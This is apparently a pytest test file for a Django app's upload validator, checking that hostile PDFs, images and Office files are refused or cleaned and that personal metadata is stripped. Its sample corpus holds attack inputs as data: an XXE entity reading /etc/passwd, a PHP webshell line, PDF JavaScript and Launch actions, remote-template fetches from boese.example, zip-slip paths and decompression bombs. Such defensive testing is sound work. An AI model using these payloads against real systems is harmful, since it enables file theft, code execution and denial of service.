"""T17, T20: hostile and honest files; what is taken comes out clean, what is not is refused with a sentence."""

import io
import tracemalloc
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from engagements.models import LogEntry
from rooms import uploads
from rooms.models import File
from tests.attack.corpus import (
    EICAR,
    FLATE,
    OBJSTM,
    PAGES,
    PAYLOAD,
    exif,
    odf,
    office,
    office_parts,
    pdf,
    picture,
    png_chunk,
    png_claiming,
    png_texts,
    rels,
    stream,
    zipped,
    zipped_zeros,
)
from tests.factories.engagements import EngagementFactory
from tests.factories.rooms import MembershipFactory

WRONG, BROKEN, ACTIVE, BOMB = "passt nicht zur Endung", "beschädigt", "aktive Inhalte", "ausgepackt zu groß"
MACROS, ENTITIES, FETCHES, PACKED = "Makros", "DOCTYPE", "lädt beim Öffnen", "gepackte Datei"
NOT_ONLY, OBJECT = "nicht nur ein PDF", "eingebettetes Objekt"
PIXELS, ENDING, TEXT = "40 Millionen Bildpunkte", "Möglich sind", "keine Textdatei"
JPEG, PNG = picture("JPEG"), picture("PNG")
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
MACRO_TYPE = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
TEMPLATE = "word/_rels/settings.xml.rels"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

TAKEN = {
    "pdf": ("Protokoll.pdf", pdf(PAGES)),
    "pdf-packed-objects": ("a.pdf", pdf(PAGES, stream(OBJSTM + FLATE, b"1 0 << /Type /Page >>"))),
    "pdf-picture-inside": ("a.pdf", pdf(PAGES, stream(b"/Filter /DCTDecode", JPEG, packed=False))),
    "pdf-words-that-begin-alike": ("a.pdf", pdf(PAGES, b"<< /Launchpad 1 /XFAx 2 /URI (https://a.example/JS) >>")),
    "pdf-link-with-a-word": ("a.pdf", pdf(PAGES, b"<< /S /URI /URI (https://a.example/JavaScript) >>")),
    "png": ("Foto.PNG", PNG),
    "png-transparent": ("a.png", picture("PNG", "RGBA")),
    "png-palette": ("a.png", picture("PNG", "P", transparency=1)),
    "png-one-bit": ("a.png", picture("PNG", "1")),
    "png-sixteen-bit": ("a.png", picture("PNG", "I;16")),
    "jpeg": ("Foto.jpg", JPEG),
    "jpeg-grey": ("a.jpeg", picture("JPEG", "L")),
    "jpeg-print": ("a.jpeg", picture("JPEG", "CMYK")),
    "jpeg-progressive": ("a.jpg", picture("JPEG", progressive=True)),
    "jpeg-exif": ("a.jpg", picture("JPEG", exif=exif())),
    "png+html-behind": ("a.png", PNG + PAYLOAD),
    "png+html-in-text": ("a.png", picture("PNG", pnginfo=png_texts(PAYLOAD.decode(), "Erika"))),
    "png+html-in-chunk": ("a.png", PNG[:33] + png_chunk(b"prVt", PAYLOAD) + PNG[33:]),
    "png+exif": ("a.png", picture("PNG", exif=exif())),
    "jpeg+zip": ("a.jpg", zipped({"boese.js": PAYLOAD}, prefix=JPEG)),
    "jpeg+html-comment": ("a.jpg", picture("JPEG", comment=PAYLOAD)),
    "jpeg+php-behind": ("a.jpg", JPEG + b"<?php system($_GET[0]); ?>" + PAYLOAD),
    "jpeg+icc": ("a.jpg", picture("JPEG", icc_profile=PAYLOAD * 9)),
    "png-animated": ("a.png", picture("PNG", save_all=True, append_images=[Image.new("RGB", (24, 16), "red")])),
    "double-ending-honest-inside": ("rechnung.exe.png", PNG + PAYLOAD),
    "docx": ("a.docx", office()),
    "xlsx": ("a.xlsx", office("xlsx")),
    "pptx": ("a.pptx", office("pptx")),
    "odt": ("a.odt", odf()),
    "ods": ("a.ods", odf("spreadsheet")),
    "docx-behind-html": ("a.docx", zipped(office_parts(), suffix=b"\r\n")),
    "docx-comment": ("a.docx", zipped(office_parts(), comment=PAYLOAD)),
    "docx-chart": ("a.docx", office(**{"word/embeddings/Tabelle1.xlsx": office("xlsx")})),
    "docx-link": ("a.docx", office(**{"word/_rels/document.xml.rels": rels("hyperlink", "https://a.example")})),
    "docx-own-template": ("a.docx", office(**{TEMPLATE: rels("attachedTemplate", "file:///C:\\Users\\Erika\\B.dotm")})),
    "txt": ("a.txt", "Grüße".encode()),
    "txt-html-never-shown": ("a.txt", b"<p>Kein Skript wird je gezeigt.</p>"),
    "csv-windows": ("a.csv", "Grüße;1\r\n".encode("cp1252")),
    "name-of-300-signs": (f"{'ä' * 300}.txt", b"Text"),
    "name-from-right-to-left": ("a\u202efdp.txt", b"Text"),
    "name-with-quotes": ('a"; filename="b.exe.txt', b"Text"),
}

REFUSED = {
    "eicar.pdf": ("a.pdf", EICAR, WRONG),
    "exe": ("a.exe", b"MZ", ENDING),
    "svg": ("a.svg", b"<svg onload='alert(1)'/>", ENDING),
    "html": ("a.html", PAYLOAD, ENDING),
    "zip": ("a.zip", zipped({"a": "b"}), ENDING),
    "docm": ("a.docm", office(), ENDING),
    "heic": ("a.heic", b"\x00\x00\x00\x18ftypheic", ENDING),
    "gif": ("a.gif", b"GIF89a", ENDING),
    "fits": ("a.fits", b"SIMPLE  =                    T", ENDING),
    "no-ending": ("ohne", b"x", ENDING),
    "double-ending": ("a.pdf.exe", pdf(PAGES), ENDING),
    "ending-with-space": ("a.pdf ", pdf(PAGES), ENDING),
    "name-cut-by-nul": ("a.exe\x00", b"MZ", ENDING),
    "empty": ("a.pdf", b"", "ist leer"),
    "large": ("a.txt", b"x" * (uploads.LARGEST + 1), "größer als 20 MB"),
    "svg.png": ("a.png", b"<svg onload='alert(1)'/>", WRONG),
    "fits.png": ("a.png", b"SIMPLE  =                    T" + b" " * 2850, WRONG),
    "gif+js.png": ("a.png", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", WRONG),
    "jpeg.png": ("a.png", JPEG, WRONG),
    "png.jpg": ("a.jpg", PNG, WRONG),
    "png-cut": ("a.png", picture("PNG", "RGB", (200, 200))[:90], BROKEN),
    "jpeg-cut": ("a.jpg", picture("JPEG", "RGB", (200, 200))[:-200], BROKEN),
    "png-60000": ("a.png", png_claiming(60_000, 60_000), PIXELS),
    "png-8000x6000": ("a.png", png_claiming(8_000, 6_000), PIXELS),
    "png-10000x9500": ("a.png", png_claiming(10_000, 9_500), PIXELS),
    "png-crc": ("a.png", PNG[:29] + b"\x00\x00\x00\x00" + PNG[33:], f"{WRONG}|{BROKEN}"),
    "png-text-bomb": ("a.png", picture("PNG", pnginfo=png_texts("", "x" * 9_000_000)), BROKEN),
    "jpeg-scans": ("a.jpg", JPEG[:-2] + b"\xff\xda" * 200 + JPEG[-2:], "ungewöhnlich"),
    "png.pdf": ("a.pdf", PNG, WRONG),
    "html+pdf": ("a.pdf", PAYLOAD + pdf(PAGES), WRONG),
    "pdf+html-at-the-head": ("a.pdf", pdf(PAGES, head=b"%PDF-1.7\n<html>" + PAYLOAD), NOT_ONLY),
    "pdf+html-behind": ("a.pdf", pdf(PAGES) + PAYLOAD, NOT_ONLY),
    "pdf+zip": ("a.pdf", zipped({"boese.js": "x"}, prefix=pdf(PAGES)), NOT_ONLY),
    "pdf+zip-before-the-end": ("a.pdf", zipped({"boese.js": "x"}, prefix=pdf(PAGES), suffix=b"\n%%EOF\n"), NOT_ONLY),
    "pdf-without-end": ("a.pdf", pdf(PAGES, tail=b""), BROKEN),
    "pdf-javascript": ("a.pdf", pdf(PAGES, SCRIPT), ACTIVE),
    "pdf-javascript-escaped": ("a.pdf", pdf(PAGES, SCRIPT.replace(b"/JavaScript", b"/J#61vaScr#69pt")), ACTIVE),
    "pdf-javascript-packed": ("a.pdf", pdf(PAGES, stream(OBJSTM + FLATE, b"3 0 " + SCRIPT)), ACTIVE),
    "pdf-javascript-deep": ("a.pdf", pdf(PAGES, stream(OBJSTM + FLATE, bytes(3_000_000) + SCRIPT)), ACTIVE),
    "pdf-javascript-hex-packed": (
        "a.pdf",
        pdf(PAGES, stream(OBJSTM + b"/Filter /ASCIIHexDecode", b"2F>", False)),
        ACTIVE,
    ),
    "pdf-packed-twice": ("a.pdf", pdf(PAGES, stream(OBJSTM + b"/Filter [/A85 /FlateDecode]", b"x")), ACTIVE),
    "pdf-packed-in-rows": ("a.pdf", pdf(PAGES, stream(OBJSTM + FLATE + b"/DecodeParms <<>>", b"x")), ACTIVE),
    "pdf-javascript-as-link": ("a.pdf", pdf(PAGES, b"<< /URI (https://a.example \n) /S /JavaScript ) >>"), ACTIVE),
    "pdf-javascript-behind-link": ("a.pdf", pdf(PAGES, b"<< /URI (https://a.example) /S/JavaScript >>"), ACTIVE),
    "pdf-only-js": ("a.pdf", pdf(PAGES, b"<< /S /Rendi#74ion /JS (alert) >>"), ACTIVE),
    "pdf-launch": ("a.pdf", pdf(PAGES, b"<< /OpenAction << /S /Launch /F (cmd.exe) >> >>"), ACTIVE),
    "pdf-attachment": ("a.pdf", pdf(PAGES, b"<< /EF << /F 3 0 R >> /Type /EmbeddedFile >>"), ACTIVE),
    "pdf-flash": ("a.pdf", pdf(PAGES, b"<< /Subtype /RichMedia >>"), ACTIVE),
    "pdf-fetches": ("a.pdf", pdf(PAGES, b"<< /S /GoToE /F (\\\\\\\\boese.example\\\\x) >>"), ACTIVE),
    "pdf-xfa": ("a.pdf", pdf(PAGES, b"<< /XFA 4 0 R >>"), ACTIVE),
    "pdf-locked": ("a.pdf", pdf(PAGES, b"<< /Encrypt 5 0 R >>"), "verschlüsselt"),
    "pdf-bomb": (
        "a.pdf",
        lambda: pdf(PAGES, stream(FLATE, bytes(210 * 2**20)), stream(FLATE, bytes(210 * 2**20))),
        BOMB,
    ),
    "png.docx": ("a.docx", PNG, BROKEN),
    "odt.docx": ("a.docx", odf(), WRONG),
    "docx.xlsx": ("a.xlsx", office(), WRONG),
    "ods.odt": ("a.odt", odf("spreadsheet"), WRONG),
    "zip.docx": ("a.docx", zipped({"a.txt": "b"}), WRONG),
    "jpeg+docx": ("a.docx", zipped(office_parts(), prefix=JPEG), BROKEN),
    "docx-cut": ("a.docx", office()[:-30], BROKEN),
    "docx-bytes-changed": ("a.docx", office()[:60] + b"\xff" + office()[61:], BROKEN),
    "docx-macro": ("a.docx", office(**{"word/vbaProject.bin": "x"}), MACROS),
    "docx-macro-hidden": ("a.docx", office(**{"word/VBAPROJECT.BIN": "x"}), MACROS),
    "docx-macro-type": ("a.docx", office(**{"[Content_Types].xml": MACRO_TYPE}), MACROS),
    "docx-macro-linked": ("a.docx", office(**{TEMPLATE: rels("vbaProject", "x.bin", "Internal")}), MACROS),
    "docx-macro-in-chart": ("a.docx", office(**{"word/e.xlsx": office("xlsx", **{"xl/vbaProject.bin": "x"})}), MACROS),
    "xlsx-old-macros": ("a.xlsx", office("xlsx", **{"xl/macrosheets/sheet1.xml": "<x/>"}), MACROS),
    "docx-controls": ("a.docx", office(**{"word/activeX/activeX1.xml": "<x/>"}), MACROS),
    "odt-macros": ("a.odt", odf(**{"Basic/Standard/Module1.xml": "<x/>"}), MACROS),
    "docx-ole": ("a.docx", office(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1"}), OBJECT),
    "docx-xxe": ("a.docx", office(**{"word/document.xml": XXE}), ENTITIES),
    "docx-xxe-utf16": ("a.docx", office(**{"word/document.xml": XXE.encode("utf-16")}), ENTITIES),
    "docx-xxe-other-name": ("a.docx", office(**{"word/teil.vml": " " + XXE}), ENTITIES),
    "docx-xxe-in-types": ("a.docx", office(**{"[Content_Types].xml": XXE}), ENTITIES),
    "docx-xxe-in-about": ("a.docx", office(**{"docProps/core.xml": XXE}), ENTITIES),
    "docx-laughs": ("a.docx", office(**{"word/document.xml": LAUGHS}), ENTITIES),
    "odt-xxe": ("a.odt", odf(**{"meta.xml": XXE}), ENTITIES),
    "docx-not-xml": ("a.docx", office(**{"word/document.xml": "<w>"}), BROKEN),
    "docx-template-elsewhere": (
        "a.docx",
        office(**{TEMPLATE: rels("attachedTemplate", "https://boese.example/t")}),
        FETCHES,
    ),
    "docx-template-share": (
        "a.docx",
        office(**{TEMPLATE: rels("attachedTemplate", "\\\\boese.example\\t.dotm")}),
        FETCHES,
    ),
    "docx-picture-elsewhere": (
        "a.docx",
        office(**{"word/_rels/d.rels": rels("image", "http://boese.example/p")}),
        FETCHES,
    ),
    "docx-slip": ("a.docx", office(**{"../../etc/cron.d/x": "x"}), BROKEN),
    "docx-slip-windows": ("a.docx", office(**{"..\\x.xml": "<x/>"}), BROKEN),
    "docx-slip-absolute": ("a.docx", office(**{"/etc/passwd": "x"}), BROKEN),
    "docx-same-name-twice": ("a.docx", office(**{"word/a.xml": "<x/>", "word/A.xml": "<y/>"}), BROKEN),
    "docx-200-MB": ("a.docx", lambda: zipped_zeros("word/a.bin", 200), BOMB),
    "docx-tight": ("a.docx", lambda: zipped_zeros("word/a.bin", 50), BOMB),
    "docx-2001-parts": ("a.docx", office(**{f"word/{number}": "" for number in range(2000)}), BOMB),
    "docx-many-small-bombs": (
        "a.docx",
        lambda: office(**{f"word/e{n}.xlsx": zipped_zeros("xl/a", 9, **office_parts("xlsx")) for n in range(12)}),
        BOMB,
    ),
    "docx-large-inside": ("a.docx", lambda: office(**{"word/a.xlsx": office("xlsx") + bytes(21 * 2**20)}), BOMB),
    "docx-nested": ("a.docx", office(**{"word/innen.zip": zipped({"a": "b"})}), PACKED),
    "docx-nested-twice": ("a.docx", office(**{"w/a.xlsx": office("xlsx", **{"x/b.docx": office()})}), PACKED),
    "docx-large-about": ("a.docx", office(**{"docProps/core.xml": "<x>" + "<a/>" * 90_000 + "</x>"}), BOMB),
    "txt-control-signs": ("a.txt", b"a\x00b", TEXT),
    "pdf.txt": ("a.txt", pdf(PAGES), TEXT),
    "gif+js.txt": ("a.txt", b"GIF89a/* */=1;alert(1)", TEXT),
    "zip.csv": ("a.csv", zipped({"a": "b"}), TEXT),
    "noise.csv": ("a.csv", b"\x81\x8d\xff", TEXT),
}


def upload(name, content):
    file = SimpleUploadedFile("x", content() if callable(content) else content)
    file._name = name  # as wild as it comes; Django's own cut is not what is tried here
    return file


def unpacked(content):
    """The bytes, and those of every part of a package."""
    found = [content]
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                found += unpacked(archive.read(name))
    return found


def cleaned(name, content):
    file = upload(name, content)
    assert uploads.check(file) == uploads.TYPES[name.rpartition(".")[2].lower()]
    stored = file.read()
    assert file.size == len(stored)
    return stored


def test_the_corpus_is_large_enough():
    assert len(TAKEN) + len(REFUSED) >= 60


@pytest.mark.parametrize("case", TAKEN)
def test_what_is_taken_comes_out_clean(case):
    name, content = TAKEN[case]
    stored = cleaned(name, content)

    assert not any(PAYLOAD in part for part in unpacked(stored))
    if case.startswith(("png", "jpeg", "double")):
        again = Image.open(io.BytesIO(stored))
        again.load()
        assert {key for key in again.info if not key.startswith(("jfif", "adobe"))} <= {"transparency"}
        assert getattr(again, "n_frames", 1) == 1


@pytest.mark.parametrize("case", REFUSED)
def test_what_is_refused_is_named_with_its_reason(case):
    name, content, words = REFUSED[case]
    with pytest.raises(ValidationError, match=words) as refused:
        uploads.check(upload(name, content))

    [sentence] = refused.value.messages
    assert f"„{name.strip(chr(0))}“: " in sentence
    assert sentence.endswith(".")


def test_a_picture_stands_upright_and_keeps_its_colours():
    source = Image.new("RGB", (40, 20), "red")
    out = io.BytesIO()
    source.save(out, "JPEG", exif=exif())

    again = Image.open(io.BytesIO(cleaned("a.jpg", out.getvalue())))

    assert again.size == (20, 40)
    assert again.getpixel((10, 10))[0] > 240


def test_memory_stays_small():
    """Files small enough to arrive must not unpack to what a server does not have."""
    bombs = [upload(*REFUSED[case][:2]) for case in ("docx-200-MB", "docx-tight", "pdf-bomb", "png-60000")]
    tracemalloc.start()
    for bomb in bombs:
        with pytest.raises(ValidationError):
            uploads.check(bomb)
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert most < 50 * 2**20


@pytest.mark.parametrize("case", ["png+html-behind", "png+html-in-chunk", "jpeg+zip", "jpeg+html-comment"])
def test_without_writing_anew_the_payload_would_stay(case, monkeypatch):
    """The planted bug: the test above sees what it looks for."""
    monkeypatch.setattr("rooms.uploads.images.clean", lambda file, ending: file.getvalue())
    stored = cleaned(*TAKEN[case])

    assert PAYLOAD in stored or b"boese.js" in stored


@pytest.mark.parametrize("words", ["DOCTYPE", "Makros", "lädt"])
def test_without_looking_inside_office_files_would_pass(words, monkeypatch):
    monkeypatch.setattr("rooms.uploads.office.clean", lambda file, ending: file.getvalue())
    for name, content, reason in REFUSED.values():
        if reason.startswith(words):
            cleaned(name, content)


# --- T20 -----------------------------------------------------------------------------------
AUTHOR, REMARK, TOWN_HALL = "Erika Verfasserin", "Nur unter uns", "Stadt Geheimstedt"
SECRETS = [word.encode(code) for word in (AUTHOR, REMARK, TOWN_HALL) for code in ("utf-8", "utf-16-le")]
CORE = (
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
    ' xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/"'
    ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>Protokoll</dc:title>'
    f"<dc:creator>{AUTHOR}</dc:creator><cp:lastModifiedBy>{AUTHOR}</cp:lastModifiedBy>"
    f"<dc:description>{REMARK}</dc:description>"
    '<dcterms:created xsi:type="dcterms:W3CDTF">2024-01-01T00:00:00Z</dcterms:created></cp:coreProperties>'
)
APP = f"<Properties><Company>{TOWN_HALL}</Company><Manager>{AUTHOR}</Manager><Pages>1</Pages></Properties>"
CUSTOM = f'<Properties><property name="Amt"><lpwstr>{TOWN_HALL}</lpwstr></property></Properties>'
META = (
    '<o:document-meta xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0">'
    "<o:meta><dc:title>Protokoll</dc:title>"
    f"<meta:initial-creator>{AUTHOR}</meta:initial-creator><dc:creator>{AUTHOR}</dc:creator>"
    f'<dc:description>{REMARK}</dc:description><meta:user-defined meta:name="Amt">{TOWN_HALL}</meta:user-defined>'
    "</o:meta></o:document-meta>"
)


def personal_files():
    """Thirty files that say where they were made, by whom, and what was thought of it."""
    about = {"docProps/core.xml": CORE, "docProps/app.xml": APP, "docProps/custom.xml": CUSTOM}
    path = {TEMPLATE: rels("attachedTemplate", f"file:///C:\\{AUTHOR}\\Vorlage.dotm")}
    inside = {"word/embeddings/a.xlsx": office("xlsx", **about)}
    for mode in ("RGB", "L", "CMYK"):
        yield f"{mode}.jpg", picture("JPEG", mode, exif=exif(), comment=REMARK)
        yield f"{mode}-2.jpg", picture("JPEG", mode, exif=exif(artist=TOWN_HALL), progressive=True)
        yield f"{mode}-3.jpeg", picture("JPEG", mode, comment=f"{AUTHOR}: {REMARK}")
        yield f"{mode}-4.jpg", picture("JPEG", mode, xmp=f"<x>{AUTHOR}</x>".encode())
    for mode in ("RGB", "RGBA", "L", "P"):
        yield f"{mode}.png", picture("PNG", mode, exif=exif())
        yield f"{mode}-2.png", picture("PNG", mode, pnginfo=png_texts(REMARK, AUTHOR))
    for ending in ("docx", "xlsx", "pptx"):
        yield f"a.{ending}", office(ending, **about)
        yield f"b.{ending}", office(ending, **{"package/services/metadata/core-properties/1.psmdcp": CORE})
    yield "c.docx", office(**path)
    yield "d.docx", office(**inside)
    yield "a.odt", odf(**{"meta.xml": META})
    yield "a.ods", odf("spreadsheet", **{"meta.xml": META})


def tells(content):
    """Whether a file still says something about somebody."""
    if any(secret in part for part in unpacked(content) for secret in SECRETS):
        return True
    if content.startswith(b"PK"):
        return False
    image = Image.open(io.BytesIO(content))
    image.load()
    return bool(dict(image.getexif()) or {"xmp", "comment", "Comment", "Author", "icc_profile"} & set(image.info))


def test_thirty_files_tell_nothing_of_people_and_places():
    files = list(personal_files())

    assert len(files) == 30
    assert all(tells(content) for _name, content in files)  # there is something to find
    assert [name for name, content in files if tells(cleaned(name, content))] == []


def test_what_is_not_personal_stays_and_stays_readable():
    stored = cleaned("a.docx", office(**{"docProps/core.xml": CORE}))
    with zipfile.ZipFile(io.BytesIO(stored)) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert archive.testzip() is None

    assert "<dc:title>Protokoll</dc:title>" in core
    assert 'xsi:type="dcterms:W3CDTF"' in core
    assert "xmlns:dcterms=" in core


def test_an_odf_still_begins_with_its_type():
    assert cleaned("a.odt", odf())[30:].startswith(b"mimetypeapplication/vnd.oasis.opendocument.text")


# --- through the form ------------------------------------------------------------------------
GIVEN = {"kind": "einzelgespraech", "when": "12.03.2018", "title": "Gespräch", "circle": "40", "text": "Das bleibt."}


@pytest.fixture
def write(db, client):
    engagement = EngagementFactory()
    client.force_login(MembershipFactory(room=engagement.room).user)

    def write(name, content):
        data = GIVEN | {"new_files": [SimpleUploadedFile(name, content() if callable(content) else content)]}
        return client.post(reverse("engagements:log-create", args=[engagement.pk]), data)

    return write


@pytest.mark.parametrize("case", ["png+html-behind", "jpeg+zip", "jpeg-exif", "docx-comment", "txt", "pdf"])
def test_the_form_keeps_what_is_clean(write, case, client):
    assert write(*TAKEN[case]).status_code == 302

    file = LogEntry.objects.get().files.get()
    answer = client.get(reverse("rooms:file", args=[file.pk]))
    content = b"".join(answer.streaming_content)
    assert PAYLOAD not in content
    assert b"boese.js" not in content
    assert len(content) == file.size
    assert uploads.hashlib.sha256(content).hexdigest() == file.sha256


@pytest.mark.parametrize(
    "case", ["eicar.pdf", "png-60000", "docx-macro", "docx-xxe", "docx-200-MB", "pdf-javascript", "svg", "html+pdf"]
)
def test_the_form_refuses_and_keeps_what_was_typed(write, case):
    name, content, words = REFUSED[case]
    page = write(name, content).content.decode()

    assert f"„{name}“: " in page
    assert words in page
    assert "Das bleibt." in page
    assert not LogEntry.objects.exists()
    assert not File.objects.exists()
